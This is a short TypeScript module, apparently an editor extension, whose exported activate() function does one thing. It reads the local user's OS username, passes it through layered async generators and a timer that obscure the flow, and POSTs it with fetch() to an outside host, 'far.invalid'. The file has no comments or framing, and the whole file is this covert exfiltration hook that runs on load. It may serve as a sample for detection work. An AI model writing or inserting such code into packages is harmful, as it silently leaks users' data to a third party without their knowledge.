import * as os from 'os';
const name = () => os.userInfo().username;
const later = async () => { await new Promise((done) => setTimeout(done, 1)); return name(); };
const send = (data: unknown) => { fetch('https://far.invalid/', { method: 'POST', body: String(data) }); };

async function* inner() { yield await later(); } async function* all() { yield* inner(); }

export async function activate() {
  for await (const x of all()) send(x);
}
